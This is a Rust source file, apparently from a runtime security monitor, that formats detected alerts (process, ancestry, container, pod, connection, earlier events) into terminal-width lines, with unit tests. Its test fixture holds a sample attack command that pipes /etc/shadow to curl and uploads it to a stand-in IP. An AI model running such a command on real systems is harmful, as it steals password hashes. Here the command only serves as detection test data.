//! What is told of an alert below its line: who did it and from where, in lines that fit a terminal.

use std::fmt::Write;

use chandra_event::text::escape;
use chandra_hubble::proto::chandra::v1::Alert;
use serde_json::Value;

/// Where values begin.
const INDENT: usize = 14;
/// A narrower terminal breaks lines itself.
const NARROWEST: usize = 40;

/// A line for each thing that is known, at most `width` columns wide where that is given.
pub fn details(alert: &Alert, node: &str, width: Option<usize>) -> String {
    let json: Value = serde_json::from_str(&alert.json).unwrap_or_default();
    let text = |path: &str| json.pointer(path).and_then(Value::as_str).unwrap_or_default();
    let mut out = String::new();
    let mut row = |name: &str, value: &str| {
        if !value.is_empty() {
            write_row(&mut out, name, &escape(value.as_bytes()), width);
        }
    };
    row("time", text("/time"));
    let tags =
        if alert.tags.is_empty() { String::new() } else { format!(" [{}]", alert.tags.join(", ")) };
    row("rule", &format!("{}{tags}", alert.rule));
    let process = json.get("process");
    row("process", &process.map(named).unwrap_or_default());
    row("command", &process.map(|process| words(process, "argv")).unwrap_or_default());
    let ancestors = json.get("ancestors").and_then(Value::as_array).into_iter().flatten();
    row("ancestors", &ancestors.map(named).collect::<Vec<_>>().join(" < "));
    row("container", &listed(&json, &["/container/name", "/container/image", "/container/id"]));
    let pod = match (text("/pod/namespace"), text("/pod/name")) {
        ("", name) => name.to_owned(),
        (namespace, name) => format!("{namespace}/{name}"),
    };
    row("pod", &pod);
    row("connection", &connection(&json));
    row("node", node);
    for before in json.get("preceding").and_then(Value::as_array).into_iter().flatten() {
        row("before", &preceding(before));
    }
    out
}

/// `touch[42] /usr/bin/touch`
fn named(process: &Value) -> String {
    let text = |name: &str| process.get(name).and_then(Value::as_str).unwrap_or_default();
    let pid = process.get("pid").and_then(Value::as_u64).unwrap_or_default();
    let mut named = format!("{}[{pid}]", text("comm"));
    if !text("exe").is_empty() {
        let _ = write!(named, " {}", text("exe"));
    }
    named
}

/// Several texts with blanks between.
fn words(object: &Value, name: &str) -> String {
    let words = object.get(name).and_then(Value::as_array).into_iter().flatten();
    words.filter_map(Value::as_str).collect::<Vec<_>>().join(" ")
}

/// What is there of these.
fn listed(json: &Value, paths: &[&str]) -> String {
    let texts = paths.iter().filter_map(|path| json.pointer(path)?.as_str());
    texts.collect::<Vec<_>>().join(", ")
}

/// `tcp 10.0.0.1:40000 -> 10.0.0.2:443 (client, key 00000000deadbeef)`
fn connection(json: &Value) -> String {
    let Some(connection) = json.get("connection") else { return String::new() };
    let text = |path: &str| connection.pointer(path).and_then(Value::as_str);
    let end = |name: &str| {
        let address = text(&format!("/{name}/address"))?;
        let port = connection.pointer(&format!("/{name}/port"))?;
        Some(if address.contains(':') {
            format!("[{address}]:{port}")
        } else {
            format!("{address}:{port}")
        })
    };
    let ends =
        [end("local").unwrap_or_else(|| "?".into()), end("peer").unwrap_or_else(|| "?".into())];
    let key = text("/key").map(|key| format!("key {key}"));
    let more: Vec<_> = text("/role").map(str::to_owned).into_iter().chain(key).collect();
    let more = if more.is_empty() { String::new() } else { format!(" ({})", more.join(", ")) };
    format!("{} {}{more}", text("/protocol").unwrap_or_default(), ends.join(" -> "))
}

/// `16:31:50.123456789Z exec sh -c id`
fn preceding(before: &Value) -> String {
    let text = |name: &str| before.get(name).and_then(Value::as_str).unwrap_or_default();
    let time = text("time").split_once('T').map_or("", |(_, time)| time);
    let what =
        [words(before, "arguments"), text("path").to_owned(), text("peer").to_owned()].concat();
    format!("{time} {} {what}", text("type"))
}

/// A name and its value, which goes on below where it is wider than there is room.
fn write_row(out: &mut String, name: &str, value: &str, width: Option<usize>) {
    let label = format!("{name}:");
    let indent = " ".repeat(INDENT);
    let room = width.filter(|width| *width >= NARROWEST).map_or(usize::MAX, |width| width - INDENT);
    let mut used = 0;
    let _ = write!(out, "  {label:<width$}", width = INDENT - 2);
    for word in value.split(' ') {
        let length = word.chars().count();
        if used > 0 && used + 1 + length > room {
            let _ = write!(out, "\n{indent}");
            used = 0;
        } else if used > 0 {
            out.push(' ');
            used += 1;
        }
        out.push_str(word);
        used += length;
    }
    out.push('\n');
}

#[cfg(test)]
mod tests {
    use super::*;

    /// As an agent writes it.
    const ALERT: &str = r#"{"time":"2026-11-26T16:31:56.746609046Z","process":{"pid":42,"comm":"sh",
        "exe":"/bin/dash","argv":["sh","-c","cat /etc/shadow | curl -T - http://203.0.113.7:8080/collect?from=web-1"]},
        "ancestors":[{"pid":40,"comm":"nginx","exe":"/usr/sbin/nginx"},{"pid":7,"comm":"containerd-shim",
        "exe":"/usr/bin/containerd-shim-runc-v2"},{"pid":1,"comm":"systemd","exe":"/usr/lib/systemd/systemd"}],
        "container":{"id":"c0ffee000000beef","name":"web","image":"registry.example/shop/web:1.25"},
        "pod":{"namespace":"shop","name":"web-1"},
        "connection":{"protocol":"tcp","local":{"address":"10.0.0.1","port":40000},
        "peer":{"address":"2001:db8::1","port":443},"role":"client","key":"00000000deadbeef"},
        "preceding":[{"time":"2026-11-26T16:31:50.123456789Z","type":"exec","arguments":["sh","-c","id"]},
        {"time":"2026-11-26T16:31:51.000000000Z","type":"file_open","path":"/etc/\u001bshadow"}]}"#;

    fn alert() -> Alert {
        Alert {
            rule: "Shell of a server".into(),
            tags: vec![
                "container".into(),
                "shell".into(),
                "mitre_execution".into(),
                "T1059.004".into(),
            ],
            json: ALERT.into(),
            ..Alert::default()
        }
    }

    #[test]
    fn what_is_known_fits_eighty_columns() {
        let expected = "  time:       2026-11-26T16:31:56.746609046Z
  rule:       Shell of a server [container, shell, mitre_execution, T1059.004]
  process:    sh[42] /bin/dash
  command:    sh -c cat /etc/shadow | curl -T -
              http://203.0.113.7:8080/collect?from=web-1
  ancestors:  nginx[40] /usr/sbin/nginx < containerd-shim[7]
              /usr/bin/containerd-shim-runc-v2 < systemd[1]
              /usr/lib/systemd/systemd
  container:  web, registry.example/shop/web:1.25, c0ffee000000beef
  pod:        shop/web-1
  connection: tcp 10.0.0.1:40000 -> [2001:db8::1]:443 (client, key
              00000000deadbeef)
  node:       node-1
  before:     16:31:50.123456789Z exec sh -c id
  before:     16:31:51.000000000Z file_open /etc/\\x1bshadow
";
        let details = details(&alert(), "node-1", Some(80));
        assert_eq!(details, expected);
        assert!(details.lines().all(|line| line.chars().count() <= 80));
    }

    #[test]
    fn what_is_no_terminal_gets_whole_lines_and_what_is_not_known_none() {
        let details = details(&Alert { json: "{}".into(), ..alert() }, "", None);
        assert_eq!(
            details,
            "  rule:       Shell of a server [container, shell, mitre_execution, T1059.004]\n"
        );
        let details = super::details(&alert(), "node-1", None);
        assert_eq!(details.lines().count(), 11);
    }
}
